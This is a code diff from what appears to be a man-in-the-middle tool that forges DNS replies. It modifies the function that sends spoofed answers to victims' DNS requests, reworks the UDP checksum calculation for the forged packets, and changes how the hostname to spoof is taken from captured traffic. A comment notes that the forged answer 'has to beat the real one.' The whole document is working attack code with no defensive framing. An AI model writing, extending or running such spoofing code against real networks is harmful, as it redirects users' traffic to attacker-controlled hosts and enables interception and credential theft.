@@ -4,6 +4,7 @@
 #include <excpt.h>
 #include <Windows.h>
 
+#include "Checksum.h"
 #include "DnsPoisoning.h"
 #include "DnsForge.h"
 #include "DnsHelper.h"
@@ -12,18 +13,18 @@
 #include "DnsStructs.h"
 #include "Logging.h"
 #include "NetworkHelperFunctions.h"
+#include "Probes.h"
 
 extern PHOSTNODE gDnsSpoofingList;
 
 
-BOOL DnsRequestSpoofing(unsigned char * rawPacket, pcap_t *deviceHandle, PPOISONING_DATA spoofingRecord, char *srcIp, char *dstIp)
+BOOL DnsRequestSpoofing(unsigned char * rawPacket, PTRANSMIT_QUEUE transmitQueue, PPOISONING_DATA spoofingRecord)
 {
   BOOL retVal = FALSE;
   unsigned char *spoofedDnsResponse = NULL;
   int basePacketSize = sizeof(ETHDR) + sizeof(IPHDR) + sizeof(UDPHDR);
   PDNS_HEADER dnsBasicHdr = (PDNS_HEADER) (rawPacket + basePacketSize);
   PRAW_DNS_DATA responseData = NULL;
-  int counter = 0;  
 
   // Create DNS response data block
   if (spoofingRecord->HostnodeToSpoof->Data.Type == RESP_A)
@@ -60,21 +61,17 @@ BOOL DnsRequestSpoofing(unsigned char * rawPacket, pcap_t *deviceHandle, PPOISON
   // Adjust and prepare data on OSI layer 2 to 4
   FixNetworkLayerData4Request(spoofedDnsResponse, responseData);
   
-  // Keep sending the crafted dns reply packet to client till max 5 times if not successful
-  for (counter = 5; counter > 0; counter--) 
+  // The forged answer has to beat the real one. Send it right
+  // away together with whatever is queued ahead of it.
+  if (TransmitQueueAdd(transmitQueue, spoofedDnsResponse, basePacketSize + responseData->dataLength) == FALSE ||
+      TransmitQueueFlush(transmitQueue) <= 0)
   {
-    int funcRetVal = -2;
-    if ((funcRetVal = pcap_sendpacket(deviceHandle, (unsigned char *)spoofedDnsResponse, basePacketSize + responseData->dataLength)) != 0)
-    {
-      LogMsg(DBG_HIGH, "%2d Request DNS poisoning failed (%d) : %s -> %s, deviceHandle=0x%08x",
-        counter, funcRetVal, spoofingRecord->HostnodeToSpoof->Data.HostName, spoofingRecord->HostnodeToSpoof->Data.SpoofedIp, deviceHandle);
-      retVal = FALSE;
-    }
-    else 
-    {
-      retVal = TRUE;
-      break;
-    }
+    LogMsg(DBG_HIGH, "Request DNS poisoning failed : %s -> %s", spoofingRecord->HostnodeToSpoof->Data.HostName, spoofingRecord->HostnodeToSpoof->Data.SpoofedIp);
+    retVal = FALSE;
+  }
+  else
+  {
+    retVal = TRUE;
   }
 
 END:
@@ -109,7 +106,7 @@ void FixNetworkLayerData4Request(unsigned char * data, PRAW_DNS_DATA responseDat
   unsigned char dstIpBin[BIN_IP_LEN];
   char srcIpStr[128];
   char dstIpStr[128];
-  PUDP_PSEUDO_HDR udpPseudoHdr;
+  uint32_t udpSum = 0;
   int basePacketSize = etherPacketSize + ipPacketSize + udpPacketSize;
 
   // 1. Copy source and destination MAC addresses
@@ -155,20 +152,22 @@ void FixNetworkLayerData4Request(unsigned char * data, PRAW_DNS_DATA responseDat
   udpHdr->ulen = htons(sizeof(UDPHDR) + responseData->dataLength);
   udpHdr->checksum = 0;
 
-  // UDP pseudo header checksum calculation
-  char tempDataBuffer[512];
-  ZeroMemory(&tempDataBuffer, sizeof(tempDataBuffer));
-  CopyMemory(tempDataBuffer + sizeof(UDP_PSEUDO_HDR), (unsigned char *)udpHdr, sizeof(UDPHDR) + responseData->dataLength);  
-  udpPseudoHdr = (PUDP_PSEUDO_HDR)tempDataBuffer;
-  udpPseudoHdr->saddr = ipHdr->saddr;
-  udpPseudoHdr->daddr = ipHdr->daddr;
-  udpPseudoHdr->unused = 0;
-  udpPseudoHdr->protocol = IP_PROTO_UDP;
-  udpPseudoHdr->udplen = htons(sizeof(UDPHDR) + responseData->dataLength);
-
-  // UDP header checksum
-  udpHdr->checksum = in_cksum((unsigned short *) udpPseudoHdr, udpPacketSize + responseData->dataLength + sizeof(UDP_PSEUDO_HDR));
+  // UDP checksum over the pseudo header and the datagram as it
+  // is, 0 means "no checksum" in UDP
+  udpSum = ChecksumPseudoHeader(0, (unsigned char *)&ipHdr->saddr, (unsigned char *)&ipHdr->daddr, IP_PROTO_UDP, (unsigned short)(udpPacketSize + responseData->dataLength));
+  udpSum = ChecksumAdd(udpSum, udpHdr, udpPacketSize + responseData->dataLength);
+  udpHdr->checksum = ChecksumFold(udpSum);
+
+  if (udpHdr->checksum == 0)
+  {
+    udpHdr->checksum = 0xffff;
+  }
   
+  if (LogLevelEnabled(DBG_DEBUG) == FALSE)
+  {
+    return;
+  }
+
   ZeroMemory(srcIpStr, sizeof(srcIpStr));
   ZeroMemory(dstIpStr, sizeof(dstIpStr));
   snprintf((char *)srcIpStr, sizeof(srcIpStr) - 1, "%i.%i.%i.%i", srcIpBin[0], srcIpBin[1], srcIpBin[2], srcIpBin[3]);
@@ -178,21 +177,23 @@ void FixNetworkLayerData4Request(unsigned char * data, PRAW_DNS_DATA responseDat
 }
 
 
-PPOISONING_DATA DnsRequestPoisonerGetHost2Spoof(u_char *dataParam)
+PPOISONING_DATA DnsRequestPoisonerGetHost2Spoof(u_char *dataParam, PPACKET_VIEW viewParam)
 {
-  PETHDR ethrHdr = (PETHDR)dataParam;
   PPOISONING_DATA retVal = NULL;
   PHOSTNODE tmpNode = NULL;
   u_char hostname[256];
   
+  // DnsRequestSpoofing() copies a fixed size Eth/IP/UDP header block,
+  // so VLAN tags and IP options are not supported.
   if (gDnsSpoofingList->next == NULL || 
       dataParam == NULL || 
-      htons(ethrHdr->ether_type) != ETHERTYPE_IP)
+      (viewParam->Layers & PV_LAYER_UDP) == 0 ||
+      viewParam->PayloadOffset != sizeof(ETHDR) + sizeof(IPHDR) + sizeof(UDPHDR))
   {
     goto END;
   }  
 
-  if (GetHostnameFromPcapDnsPacket(dataParam, hostname, 255) == FALSE)
+  if (GetHostnameFromPcapDnsPacket(dataParam, viewParam, hostname, 255) == FALSE)
   {
     goto END;
   }
@@ -207,6 +208,8 @@ PPOISONING_DATA DnsRequestPoisonerGetHost2Spoof(u_char *dataParam)
   {
     retVal->HostnodeToSpoof = tmpNode;
   }
+
+  PROBE_DNS_NAME(dataParam, hostname, tmpNode != NULL);
   
 END:
 